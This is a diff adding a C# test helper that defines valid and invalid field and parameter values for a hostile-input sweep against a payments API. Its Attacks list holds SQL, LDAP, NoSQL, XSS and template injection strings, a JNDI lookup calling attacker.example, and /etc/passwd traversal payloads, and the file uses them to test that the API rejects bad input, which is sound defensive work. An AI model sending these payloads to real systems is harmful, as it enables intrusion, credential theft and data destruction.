@@ -1,0 +1,154 @@
+using System.Text.Json;
+
+namespace OneGate.Tests.Hostile;
+
+/// <summary>A raw JSON value (written into the body as is, so it may be a literal JSON cannot hold) and what it is.</summary>
+public sealed record BadValue(string Label, string Json);
+
+/// <summary>
+/// A body field's valid value for the base request and the values that api.md makes invalid for it. Which fields
+/// exist, and their JSON types, come from the OpenAPI documents; what is valid is the contract's knowledge and is
+/// written down here, by field name (a new field of a known name is swept at once; an unknown one gets the
+/// type-level cases and fails the test if it accepts them).
+/// </summary>
+/// <param name="Base">The valid raw JSON for the base body; null leaves the field out of it.</param>
+/// <param name="Optional">api.md marks it optional (<c>?</c>): leaving it out or sending null is valid input.</param>
+/// <param name="Injections">Whether the attack strings are invalid here (identifiers, enums, amounts). Free text
+/// (merchant, description, reason) takes any printable text by contract: an injection string there is valid input,
+/// stored literally, so it is not a bad-input case.</param>
+public sealed record FieldRule(Func<string>? Base, bool Optional, IReadOnlyList<BadValue> Invalid, bool Injections);
+
+public static class ContractRules
+{
+    private static string Quote(string text) => JsonSerializer.Serialize(text);
+
+    private static BadValue Text(string label, string text) => new(label, Quote(text));
+
+    /// <summary>Attack strings: SQL, LDAP, NoSQL, script/template, path traversal, header injection, unicode tricks.</summary>
+    public static readonly IReadOnlyList<string> Attacks =
+    [
+        "' OR '1'='1",
+        "1; DROP TABLE accounts; --",
+        "\" OR 1=1 --",
+        "x' UNION SELECT password_hash FROM users --",
+        "*)(uid=*))(|(uid=*",
+        "admin)(&)",
+        "{\"$gt\": \"\"}",
+        "<script>alert(1)</script>",
+        "javascript:alert(document.cookie)",
+        "{{7*7}}${7*7}",
+        "${jndi:ldap://attacker.example/a}",
+        "../../../../etc/passwd",
+        "..%2F..%2Fetc%2Fpasswd",
+        "x\r\nX-Injected: yes",
+        "\u202Egnp.exe",
+        "adm\u200Bin",
+        "ａｄｍｉｎ",
+        "\uFEFFadmin",
+        "Z\u0351\u0360\u035A\u0328",
+        "\u0000",
+    ];
+
+    private static readonly string[] AmountBad =
+        ["0", "0.00", "-1", "-10000.00", "0.001", "10000.005", "1e20", "10000000000000.00", "1e400", "\"NaN\"", "\"Infinity\"",
+         "\"-Infinity\"", "\"12,50\"", "\"\"", "true", "{}", "[]", "\"0x2710\""];
+
+    private static readonly FieldRule Amount = new(() => "10000.00", false, AmountBad.Select(a => new BadValue("amount " + a, a)).ToList(), true);
+
+    private static FieldRule FreeText(string sample, int max, bool optional) => new(() => Quote(sample), optional,
+    [
+        Text($"{max + 1} chars", new string('x', max + 1)),
+        Text("10,000 chars", new string('x', 10_000)),
+        Text("NUL", "a\u0000b"),
+        Text("escape sequence", "\u001b[2J"),
+        Text("line break", "a\r\nb"),
+        .. optional ? Array.Empty<BadValue>() : [Text("empty", ""), Text("blank", "   ")],
+    ], Injections: false);
+
+    private static FieldRule Identifier(Func<string> sample, int max, params BadValue[] more) => new(sample, false,
+    [
+        Text("empty", ""),
+        Text("blank", "   "),
+        Text($"{max + 1} chars", new string('a', max + 1)),
+        Text("10,000 chars", new string('a', 10_000)),
+        .. more,
+    ], Injections: true);
+
+    /// <summary>The sweep's fixed inputs: users, transaction ids (filled in by the test's set-up).</summary>
+    public sealed class Inputs
+    {
+        public required string RecipientUsername { get; init; }
+
+        public required string OwnPaymentId { get; init; }
+
+        public required string LoginUsername { get; init; }
+
+        public required string LoginPassword { get; init; }
+    }
+
+    public static Dictionary<string, FieldRule> For(ApiOperation operation, Inputs inputs)
+    {
+        var rules = new Dictionary<string, FieldRule>
+        {
+            ["amount"] = operation.Path == "/api/payments/refund" ? Amount with { Optional = true } : Amount,
+            ["merchant"] = FreeText("Warung Sate Pak Budi", 100, optional: false),
+            ["description"] = FreeText("hostile sweep", 255, optional: true),
+            ["externalReference"] = FreeText("ORDER-1", 100, optional: true),
+            ["reason"] = FreeText("changed my mind", 255, optional: true),
+            ["paymentMethod"] = new(() => Quote("GOPAY"), false,
+                [Text("lower case", "gopay"), Text("unknown", "BITCOIN"), Text("empty", ""), Text("padded", " GOPAY"), new("number", "1")], true),
+            ["toUsername"] = Identifier(() => Quote(inputs.RecipientUsername), 50, Text("too short", "ab"), Text("not a username", "bad name!")),
+            // Base transfers go by username: any toPhone as well is "both given", and toPhone alone must be a mobile number.
+            ["toPhone"] = new(null, true, [Text("besides toUsername", "081234567890"), Text("letters", "08abc")], true),
+            ["transactionId"] = Identifier(() => Quote(inputs.OwnPaymentId), 50),
+            ["phone"] = Identifier(() => Quote(FreshPhone()), 20, Text("landline", "+62215550100"), Text("foreign", "+15555550100"),
+                Text("too short", "0812"), Text("too long", "08123456789012345")),
+        };
+
+        switch (operation.Path)
+        {
+            case "/api/auth/register":
+                rules["username"] = Identifier(() => Quote("h_" + Guid.NewGuid().ToString("N")[..16]), 50,
+                    Text("too short", "ab"), Text("punctuation", "bad!name"), Text("space", "bad name"), Text("non-ASCII", "ünïcödé"));
+                rules["email"] = Identifier(() => Quote($"h{Guid.NewGuid():N}@example.com"), 255,
+                    Text("no at", "no-at.example.com"), Text("no domain dot", "a@b"), Text("two ats", "a@b@c.com"), Text("space", "a b@c.com"));
+                rules["password"] = new(() => Quote("correct horse battery"), false,
+                    [Text("empty", ""), Text("7 chars", "1234567"), Text("129 chars", new string('p', 129)), Text("10,000 chars", new string('p', 10_000))], false);
+                break;
+            case "/api/auth/login":
+                // Anything that passes validation is a failed login that counts against the per-IP throttle the whole
+                // suite shares; credential-shaped attacks are therefore separate, few, and counted (see the sweep).
+                rules["username"] = new(() => Quote(inputs.LoginUsername), false,
+                    [Text("empty", ""), Text("blank", "   "), Text("256 chars", new string('a', 256)), Text("NUL", "a\u0000b"), Text("escape sequence", "a\u001bb")], false);
+                rules["password"] = new(() => Quote(inputs.LoginPassword), false,
+                    [Text("empty", ""), Text("129 chars", new string('p', 129))], false);
+                break;
+            case "/api/auth/refresh":
+                // A well-formed unknown token: every case is refused (401 or 400) and nothing rotates.
+                rules["refreshToken"] = new(() => Quote(Convert.ToBase64String(Guid.NewGuid().ToByteArray()).TrimEnd('=')), false,
+                    [Text("empty", ""), Text("blank", "   "), Text("513 chars", new string('r', 513))], true);
+                break;
+            case "/api/auth/logout":
+                // Optional, and an unknown token is ignored by contract: only a wrong JSON type is invalid.
+                rules["refreshToken"] = new(null, true, [], false);
+                break;
+        }
+
+        return rules;
+    }
+
+    private static string FreshPhone() => "0812" + Random.Shared.NextInt64(10_000_000, 99_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);
+
+    /// <summary>Invalid values of query and path parameters, by name (query values are sent URL-encoded).</summary>
+    public static IReadOnlyList<string> InvalidParameterValues(string name) => name switch
+    {
+        "type" => ["BITCOIN", "TOPUP,PAYMENT", .. Attacks],
+        "status" => ["DONE", "success ", .. Attacks],
+        "from" or "to" => ["yesterday", "2026-13-45T00:00:00Z", "2026-02-30", "99999-01-01", "1e20", new string('9', 2000), .. Attacks],
+        "limit" => ["0", "101", "-1", "abc", "1e2", "10.5", " 5", "99999999999999999999", .. Attacks],
+        "cursor" => ["garbage!", "AAAA", Convert.ToBase64String("1.2.3"u8), Convert.ToBase64String("-5.-1"u8), new string('A', 101), .. Attacks],
+        "date" => ["2026-02-30", "24-11-2026", "2026/11/24", "today", "", .. Attacks],
+        "transactionId" => [new string('T', 51), new string('T', 2000), .. Attacks],
+        _ => [.. Attacks],
+    };
+}
